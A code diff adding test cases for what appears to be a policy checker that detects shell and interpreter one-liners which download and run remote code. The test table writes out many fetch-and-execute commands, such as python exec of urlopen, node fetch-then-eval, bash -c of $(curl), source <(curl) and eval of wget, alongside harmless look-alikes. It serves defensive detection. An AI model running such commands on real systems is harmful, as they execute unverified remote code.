@@ -39,3 +39,34 @@ describe('https downloads a script runs, and whether they can change', () => {
     expect(https(script)).toEqual(expected);
   });
 });
+
+/** The fourteenth red team's forms (src/policy/fetch-eval.ts): the download run without a pipe or a file. */
+const runs = (script: string): string[] => fetchedRuns(pipelines(script), script).map((r) => `${r.program} ${r.host} ${r.tls ? (r.pinned ? 'pinned' : 'moving') : 'http'}`);
+
+describe('downloads an interpreter or a substitution runs', () => {
+  const GIST = 'https://gist.githubusercontent.com/x/abc/raw';
+  it.each([
+    ['python exec of urlopen', `python3 -c "exec(__import__('urllib.request').request.urlopen('${GIST}/p.py').read())"`, ['python3 gist.githubusercontent.com moving']],
+    ['st2 python exec of requests', `/opt/stackstorm/st2/bin/python -c "import requests; exec(requests.get('${GIST}/p.py').text)"`, ['python gist.githubusercontent.com moving']],
+    ['node fetch then eval', `node -e "fetch('${GIST}/p.js').then(r=>r.text()).then(eval)"`, ['node gist.githubusercontent.com moving']],
+    ['perl eval of HTTP::Tiny', `perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get("${GIST}/p.pl")->{content}'`, ['perl gist.githubusercontent.com moving']],
+    ['python printing into sh', `python3 -c "import urllib.request as u;print(u.urlopen('${GIST}/s.sh').read().decode())" | sh`, ['python3 gist.githubusercontent.com moving']],
+    ['bash -c of $(curl)', 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/x/y/main/setup.sh)"', ['bash raw.githubusercontent.com moving']],
+    ['eval of backquoted wget', 'eval "`wget -qO- http://get.example.net/a.sh`"', ['eval get.example.net http']],
+    ['source <(curl)', 'set -e; source <(curl -fsSL https://raw.githubusercontent.com/x/y/main/env.sh)', ['source raw.githubusercontent.com moving']],
+    ['. <(wget -qO-)', '. <(wget -qO- https://get.example.net/env.sh)', ['. get.example.net moving']],
+    ['bash <(curl) with args', 'bash <(curl -s https://get.example.net/i.sh) --yes', ['bash get.example.net moving']],
+    ['a commit in the URL', `python3 -c "exec(__import__('urllib.request').request.urlopen('https://raw.githubusercontent.com/a/b/0123456789abcdef0123456789abcdef01234567/p.py').read())"`, ['python3 raw.githubusercontent.com pinned']],
+    ['a digest checked before exec', `python3 -c "import hashlib,urllib.request as u; b=u.urlopen('${GIST}/p.py').read(); assert hashlib.sha256(b).hexdigest()=='ab'; exec(b)"`, ['python3 gist.githubusercontent.com pinned']],
+    // Look-alikes: nothing runs the download.
+    ['python printing a download to the log', `python3 -c "import requests; print(requests.get('http://st2api:9101/api/v1/').status_code)"`, []],
+    ['bash -c of a mounted script', 'bash -c "$(cat /scripts/x.sh)"', []],
+    ['echo of $(curl)', 'echo "$(curl -s https://ifconfig.example.net)"', []],
+    ['bash -c with $(curl) as an argument', 'bash -c "echo $(curl -s https://ifconfig.example.net)"', []],
+    ['$(curl -o file)', 'bash -c "$(curl -fsSL -o /tmp/x https://get.example.net/x)"', []],
+    ['diff <(curl)', 'diff <(curl -s https://get.example.net/a) /etc/a', []],
+    ['python saving a download', `python3 -c "import urllib.request as u; u.urlretrieve('${GIST}/data.json', '/tmp/d.json')"`, []],
+  ] as const)('%s', (_name, script, expected) => {
+    expect(runs(script)).toEqual(expected);
+  });
+});
